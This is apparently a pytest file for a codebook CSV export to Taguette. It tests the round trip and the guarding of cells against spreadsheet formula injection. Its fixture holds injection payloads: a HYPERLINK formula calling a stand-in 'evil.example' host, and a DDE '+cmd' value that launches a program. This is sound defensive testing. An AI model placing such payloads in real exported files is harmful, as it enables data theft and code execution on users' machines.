"""``export -f codebook-csv``: the codebook as the CSV Taguette's "Import codebook" reads
(a column ``tag``, the code's path, and ``description``), read back by our own import of
Taguette's codebook with nothing lost."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tui_reader.cli.main import main

TEXT = "The army moved to the border.\nTroops stayed for a year.\n"
CODES = {
    "policy/border": 'State action\nat the "border", one, two',
    "policy": "",
    "🚀 emoji#1/x": "  kept, its spaces aside  ",
    "=SUM(A1)": "a name, not a formula",
    "a,b": "",
    '=HYPERLINK("evil.example?q=1")': "+cmd|' /C calc'!A0",
    "+cmd": "@SUM(1+1)",
    "@ana": "-2+3",
    "-negative": "",
}


def _taguette_reads(data: bytes) -> list[dict[str, str]]:
    """The codes as Taguette's codebook import takes them: the one column of the tag's
    path (tag, name or path), the description, each stripped, an empty row skipped."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header = [cell.lower() for cell in rows[0]]
    assert sum(name in header for name in ("tag", "name", "path")) == 1
    path, description = header.index("tag"), header.index("description")
    return [
        {"path": row[path].strip(), "description": row[description].strip()}
        for row in rows[1:]
        if any(row)
    ]


def test_the_codebook_goes_to_taguette_and_comes_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Moving a codebook to Taguette needed it typed again: no export wrote the CSV its
    codebook import reads."""
    corpus = tmp_path / "c"
    corpus.mkdir()
    (corpus / "a.txt").write_text(TEXT, "utf-8")
    db = str(tmp_path / "db.json")
    at = ["--db", db, "--corpus", str(corpus)]
    assert main(["annotate", *at, "a.txt", "--quote", "army", "-t", "policy/border"]) == 0
    for code, description in CODES.items():
        set_code = ["tags", "set", f"--description={description}", "--db", db, "--", code]
        assert main(set_code) == 0
    out = tmp_path / "codebook.csv"
    assert main(["export", str(corpus), "--db", db, "-f", "codebook-csv", "-o", str(out)]) == 0
    assert f"wrote {len(CODES)} codes to" in capsys.readouterr().err
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbftag,description\r\n")  # UTF-8 for Taguette's guess
    # No cell a spreadsheet opening the file runs as a formula (=HYPERLINK sends what the
    # sheet holds away, a DDE +cmd runs a program): each such one begins with a no-break
    # space, which Taguette's import strips as it strips every cell, where a ' would stay
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "\u00a0=SUM(A1)" in cells and "\u00a0@SUM(1+1)" in cells
    taken = {code["path"]: code["description"] for code in _taguette_reads(data)}
    assert taken == {code: description.strip() for code, description in CODES.items()}
    # Our import of Taguette's codebook, into an empty database: the same codebook
    other = str(tmp_path / "other.json")
    assert main(["import", str(out), "--db", other, "--corpus", str(corpus)]) == 0
    capsys.readouterr()
    assert main(["tags", "--json", "--db", other]) == 0
    back = {t["name"]: t["description"] for t in json.loads(capsys.readouterr().out)}
    assert back == {code: description.strip() for code, description in CODES.items()}
    # With --tag, that code and the codes below it alone
    part = tmp_path / "part.csv"
    export = ["export", str(corpus), "--db", db, "-f", "codebook-csv", "-o", str(part)]
    assert main([*export, "--tag", "policy"]) == 0
    assert [c["path"] for c in _taguette_reads(part.read_bytes())] == ["policy/border", "policy"]


def test_a_code_taguette_refuses_is_said_and_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A code of ours may be 1,000 characters long (each level 200); Taguette's import
    leaves out one longer than 200 with an error the user met only there."""
    db = str(tmp_path / "db.json")
    long = "/".join(["level" * 30] * 2)  # 301 characters
    for code in (long, "short"):
        assert main(["tags", "set", code, "--description", "d", "--db", db]) == 0
    out = tmp_path / "codebook.csv"
    corpus = tmp_path / "c"
    corpus.mkdir()
    export = ["export", str(corpus), "--db", db, "-f", "codebook-csv", "-o", str(out)]
    capsys.readouterr()
    assert main(export) == 0
    err = capsys.readouterr().err
    assert (
        f"1 code with a name of over 200 characters, which Taguette's import leaves out: "
        f"'{long[:19]}…{long[-19:]}'" in err
    )
    assert [c["path"] for c in _taguette_reads(out.read_bytes())] == [long, "short"]
    assert main([*export, "--force", "--tag", "short"]) == 0
    assert "Taguette" not in capsys.readouterr().err
